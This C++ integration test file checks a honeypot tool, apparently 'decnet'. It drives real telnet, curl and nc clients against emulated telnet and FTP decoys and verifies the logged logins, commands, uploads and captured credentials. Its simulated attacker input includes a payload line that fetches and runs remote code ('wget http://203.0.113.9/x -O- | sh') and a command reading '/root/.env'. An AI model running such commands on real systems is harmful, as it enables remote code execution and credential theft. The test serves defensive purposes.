// `decnet up` with telnet and ftp: the real telnet client logs in (wrong password, then the
// right one) and runs a command; real curl lists, downloads bait and uploads over passive
// FTP (what the files hold is the decky's world: cli_world_test). Then the stored events, hashes
// and credential bounties are checked in SQLite.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <thread>

#include "integration/background_process.hpp"
#include "integration/cli_runner.hpp"
#include "integration/stored_logs.hpp"
#include "store/repository.hpp"

namespace decnet::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

TEST(CliTelnet, RealClientLoginAndCommandAreStored) {
    const auto dir = make_temp_dir();
    BackgroundProcess up(
        {DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "telnet", "--distro", "ubuntu20",
         "--subnet", "127.96.0.0/24", "--db", dir + "/t.db", "--state-dir", dir},
        dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.96.0.1:23/tcp")) << up.err();

    // The client reads the script from stdin; the pauses let each prompt arrive (the wrong
    // password costs a ~1 s delay) before the next answer is typed.
    const auto transcript = capture(
        "(sleep 1; echo root; sleep 0.5; echo wrongpass; sleep 2.5; echo root; sleep 0.5; "
        "echo admin; sleep 1; echo id; sleep 0.5; echo 'cat /root/.env'; sleep 0.5; echo exit; "
        "sleep 1) | timeout 20 telnet 127.96.0.1 23 2>&1");
    EXPECT_THAT(transcript, HasSubstr("Ubuntu 20.04.6 LTS"));
    EXPECT_THAT(transcript, HasSubstr(" login: "));
    EXPECT_THAT(transcript, HasSubstr("Login incorrect"));
    EXPECT_THAT(transcript, HasSubstr("Welcome to Ubuntu 20.04.6 LTS"));
    EXPECT_THAT(transcript, HasSubstr("uid=0(root) gid=0(root) groups=0(root)"));
    EXPECT_THAT(transcript, HasSubstr("DB_PASS="));        // the decky's own bait (cli_world_test)
    EXPECT_THAT(transcript, Not(HasSubstr("wrongpass")));  // passwords are not echoed

    auto repo = store::open_sqlite(dir + "/t.db");
    wait_for_logs(*repo, "service:telnet event:disconnect", 1);
    EXPECT_EQ(up.stop(), 0) << up.err();

    const auto auths = stored_fields(*repo, "service:telnet event:auth", 50);
    ASSERT_EQ(auths.size(), 2u);
    const std::string all_auth = auths[0] + auths[1];
    EXPECT_THAT(all_auth, HasSubstr(R"("password":"wrongpass","status":"failed")"));
    EXPECT_THAT(all_auth, HasSubstr(R"("password":"admin","status":"success")"));
    EXPECT_THAT(all_auth, HasSubstr(R"("src_ip":"127.0.0.1")"));
    const auto commands = stored_fields(*repo, "service:telnet event:command", 50);
    ASSERT_GE(commands.size(), 2u);
    std::string all_commands;
    for (const auto& c : commands) all_commands += c;
    EXPECT_THAT(all_commands, HasSubstr(R"("cmd":"id")"));
    EXPECT_THAT(all_commands, HasSubstr(R"("cmd":"cat /root/.env")"));
    EXPECT_EQ(stored_fields(*repo, "service:telnet event:connect", 50).size(), 1u);
}

TEST(CliFtp, CurlListsDownloadsAndUploadsOverPassiveMode) {
    const auto dir = make_temp_dir();
    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "ftp",
                          "--subnet", "127.97.0.0/24", "--db", dir + "/f.db", "--state-dir", dir},
                         dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("127.97.0.1:21/tcp")) << up.err();

    const auto list = capture("timeout 20 curl -s --ftp-pasv ftp://lister:pw1@127.97.0.1/");
    for (const char* name : {"backup.tar.gz", "config.ini", "credentials.txt", "db_dump.sql"})
        EXPECT_THAT(list, HasSubstr(name));
    EXPECT_THAT(capture("timeout 20 curl -s --disable-epsv "
                        "ftp://admin:hunter2@127.97.0.1/credentials.txt"),
                HasSubstr("admin:"));
    EXPECT_THAT(capture("timeout 20 curl -s -o /dev/null -w '%{http_code}' "
                        "ftp://admin:hunter2@127.97.0.1/nope.txt"),
                "550");

    write_file(dir + "/payload.sh", "#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n");
    EXPECT_EQ(capture("timeout 20 curl -s -o /dev/null -w '%{http_code}' -T " + dir +
                      "/payload.sh ftp://mallory:s3cret@127.97.0.1/payload.sh"),
              "226");
    const auto sha = capture("sha256sum " + dir + "/payload.sh | cut -d' ' -f1");
    ASSERT_EQ(sha.size(), 65u);
    const std::string expected_sha = sha.substr(0, 64);

    auto repo = store::open_sqlite(dir + "/f.db");
    wait_for_logs(*repo, "service:ftp event:disconnect", 4);
    EXPECT_EQ(up.stop(), 0) << up.err();

    const auto uploads = stored_fields(*repo, "service:ftp event:upload", 50);
    ASSERT_EQ(uploads.size(), 1u);
    EXPECT_THAT(uploads[0], HasSubstr(R"("path":"payload.sh")"));
    EXPECT_THAT(uploads[0], HasSubstr(R"("sha256":")" + expected_sha + "\""));
    EXPECT_THAT(uploads[0], HasSubstr(R"("src_ip":"127.0.0.1")"));
    // Kept by the artifact store under the state directory.
    EXPECT_EQ(read_file(dir + "/artifacts/" + expected_sha),
              "#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n");

    const auto downloads = stored_fields(*repo, "service:ftp event:download_attempt", 50);
    std::string all_downloads;
    for (const auto& d : downloads) all_downloads += d;
    EXPECT_THAT(all_downloads, HasSubstr(R"("path":"credentials.txt")"));

    std::vector<std::string> credentials;
    for (const auto& b : repo->bounties({}, 50, 0))
        if (b.service == "ftp" && b.bounty_type == "credential") credentials.push_back(b.payload);
    EXPECT_THAT(credentials, ::testing::Contains(R"({"username":"admin","password":"hunter2"})"));
    EXPECT_THAT(credentials, ::testing::Contains(R"({"username":"mallory","password":"s3cret"})"));
}

TEST(CliFtp, ProtocolStateMachineAnswersLikeVsftpd) {
    const auto dir = make_temp_dir();
    BackgroundProcess up({DECNET_BINARY, "up", "--no-api", "-n", "1", "--services", "ftp",
                          "--subnet", "127.98.0.0/24", "--db", dir + "/s.db", "--state-dir", dir},
                         dir);
    ASSERT_THAT(up.wait_for_output("decnet is up"), HasSubstr("decnet is up")) << up.err();
    const auto reply = capture(
        "printf 'SYST\\r\\nPASS x\\r\\nUSER bob\\r\\nPWD\\r\\nPASS pw\\r\\nPWD\\r\\nRETR "
        "config.ini\\r\\nPASV\\r\\nQUIT\\r\\n' | timeout 10 nc -q5 127.98.0.1 21");
    EXPECT_THAT(reply, HasSubstr("220 (vsFTPd 3.0.3)\r\n"));
    EXPECT_THAT(reply, Not(HasSubstr("220 220")));
    EXPECT_THAT(reply, HasSubstr("530 Please login with USER and PASS."));
    EXPECT_THAT(reply, HasSubstr("503 Incorrect sequence of commands: USER required before PASS"));
    EXPECT_THAT(reply, HasSubstr("331 Password required for bob."));
    EXPECT_THAT(reply, HasSubstr("503 Incorrect sequence of commands: PASS required after USER"));
    EXPECT_THAT(reply, HasSubstr("230 Login successful."));
    EXPECT_THAT(reply, HasSubstr("257 \"/\" is the current directory"));
    EXPECT_THAT(reply, HasSubstr("503 Incorrect sequence of commands: PORT or PASV required "
                                 "before RETR"));
    EXPECT_THAT(reply, HasSubstr("227 Entering Passive Mode (127,98,0,1,"));
    EXPECT_THAT(reply, HasSubstr("221 Goodbye."));
    EXPECT_EQ(up.stop(), 0);
}

}  // namespace
}  // namespace decnet::testing
